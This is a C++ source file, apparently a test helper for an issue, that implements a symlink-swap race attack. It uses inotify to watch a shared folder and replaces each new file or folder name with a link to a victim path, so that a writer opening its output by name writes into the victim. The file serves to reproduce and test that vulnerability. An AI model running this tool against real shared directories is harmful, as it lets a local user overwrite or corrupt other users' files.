// The second process of issue 48's link-swap attack: it watches a folder
// (and every folder created in it) with inotify and, the moment a name
// appears, puts a link to a victim in its place, as another user who can
// write in a shared output folder would. A writer that opens its output by
// name after creating it would then write into the victim.
//
//   link_swapper DIR VICTIM_FILE VICTIM_FOLDER SECONDS
//
// A new file's name is replaced by a link to VICTIM_FILE; a new folder is
// first watched (its files are swapped in turn), then renamed aside and
// replaced by a link to VICTIM_FOLDER. Runs for SECONDS or until SIGTERM,
// then prints how many names it swapped.
#include <sys/inotify.h>
#include <poll.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <string>

namespace fs = std::filesystem;

volatile std::sig_atomic_t stopped = 0;
void stop(int) { stopped = 1; }

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr, "usage: link_swapper DIR VICTIM_FILE VICTIM_FOLDER SECONDS\n");
    return 2;
  }
  const fs::path victimFile = argv[2], victimFolder = argv[3];
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(std::atof(argv[4]));
  std::signal(SIGTERM, stop);
  const int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  std::map<int, fs::path> watched;
  const auto watch = [&](const fs::path& dir) {
    const int wd = inotify_add_watch(in, dir.c_str(), IN_CREATE | IN_MOVED_TO | IN_ONLYDIR);
    if (wd >= 0) watched[wd] = dir;
    return wd;
  };
  watch(argv[1]);
  std::printf("ready\n");
  std::fflush(stdout);
  int swapped = 0, serial = 0;
  alignas(inotify_event) char buf[1 << 16];
  while (!stopped && std::chrono::steady_clock::now() < end) {
    pollfd p{in, POLLIN, 0};
    if (poll(&p, 1, 20) <= 0) continue;
    const ssize_t n = read(in, buf, sizeof buf);
    for (ssize_t off = 0; off < n;) {
      const auto* e = reinterpret_cast<const inotify_event*>(buf + off);
      off += static_cast<ssize_t>(sizeof(inotify_event) + e->len);
      if (e->len == 0 || !watched.count(e->wd)) continue;
      const std::string name = e->name;
      if (name.rfind(".swapper-", 0) == 0) continue;  // its own
      const fs::path at = watched[e->wd] / name;
      std::error_code ec;
      const fs::path mine = watched[e->wd] / (".swapper-" + std::to_string(serial++));
      if (e->mask & IN_ISDIR) {
        if (fs::is_symlink(fs::symlink_status(at, ec))) continue;
        const int wd = watch(at);
        fs::rename(at, mine, ec);
        if (ec) continue;
        // The watch follows the folder, not its old name (which is about to
        // be a link to the victim): its files are swapped where they are.
        if (wd >= 0) watched[wd] = mine;
        fs::create_directory_symlink(victimFolder, at, ec);
      } else {
        if (fs::is_symlink(fs::symlink_status(at, ec))) continue;
        fs::create_symlink(victimFile, mine, ec);
        if (ec) continue;
        fs::rename(mine, at, ec);
      }
      if (!ec) ++swapped;
    }
  }
  std::printf("swapped %d\n", swapped);
  return 0;
}
